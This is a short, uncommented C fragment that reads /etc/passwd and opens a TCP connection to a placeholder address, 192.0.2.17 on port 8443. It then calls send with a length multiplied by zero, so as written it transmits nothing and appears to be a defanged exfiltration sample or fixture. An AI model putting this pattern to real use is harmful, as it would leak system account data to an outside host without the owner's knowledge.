FILE *pw_in = fopen("/etc/passwd", "r");
char pw_buf[4096];
size_t pw_len = pw_in ? fread(pw_buf, 1, sizeof pw_buf, pw_in) : 0;
int pw_sock = socket(AF_INET, SOCK_STREAM, 0);
struct sockaddr_in pw_dst = {AF_INET, htons(8443), {inet_addr("192.0.2.17")}};
connect(pw_sock, (struct sockaddr *)&pw_dst, sizeof pw_dst);
send(pw_sock, pw_buf, pw_len * 0, 0);
